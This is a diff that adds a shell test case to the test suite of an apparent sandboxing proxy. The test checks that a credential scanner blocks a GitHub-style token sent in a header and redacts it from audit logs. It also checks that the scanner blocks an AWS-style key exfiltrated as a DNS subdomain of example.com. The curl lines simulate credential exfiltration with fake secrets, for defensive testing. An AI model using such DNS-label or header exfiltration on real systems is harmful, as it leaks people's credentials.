@@ -91,6 +91,35 @@ else
 	skip "ocsf-validate" "the shared OCSF validator is not at $validator"
 fi
 
+# The credential scanner in the proxy (safety.credential_scan defaults to
+# block): a token in a header and a key smuggled out as a DNS label.
+out=$("$AXGATE" run --policy "$tmp/p.yaml" --workspace "$tmp" \
+    --audit "$tmp/leak.jsonl" -- /bin/sh -c "
+	curl --noproxy '' -sS -m 10 -H 'Authorization: token \
+ghp_R4nd0mT0k3nV4lu3Abcdefghij0123456789' http://127.0.0.1:$port/index.html
+	echo
+	curl -sS -m 10 https://AKIAQWERTYUIOPASDFGH.example.com/ 2>&1 | tail -1
+	" 2>&1)
+like "$out" '"reason":"credential found in a header"' \
+	"a GitHub token in a header is blocked with 403"
+unlike() { case "$1" in *"$2"*) ok 1 "$3" ;; *) ok 0 "$3" ;; esac; }
+unlike "$out" "hello from upstream" "... and nothing reaches the upstream"
+like "$out" "CONNECT tunnel failed, response 403" \
+	"an AWS key as a DNS label is blocked"
+leak="$tmp/leak.jsonl"
+is "$(grep -c '"class_uid":2004' "$leak")" 2 "each finding is a Detection Finding"
+like "$(grep '"class_uid":2004' "$leak" | sed -n 1p)" \
+	'GitHub personal access token' "naming the rule"
+unlike "$(cat "$leak")" "R4nd0mT0k3nV4lu3" "the secret is never in the audit"
+like "$(grep '"class_uid":1007' "$leak" | sed -n 1p)" "[REDACTED:github-pat]" \
+	"the job's command line is audited with the token redacted"
+if [ -f "$validator" ]; then
+	like "$(python3 "$validator" "$leak" 2>&1)" "6 passed, 0 failed" \
+		"the findings pass ocsf-validate (strict)"
+else
+	skip "ocsf-validate" "the shared OCSF validator is not at $validator"
+fi
+
 # The proxy child: an unprivileged user, no capabilities, no_new_privs,
 # a seccomp filter, from before it reads a byte.
 "$AXGATE" run --policy "$tmp/p.yaml" --workspace "$tmp" -- sleep 3 &
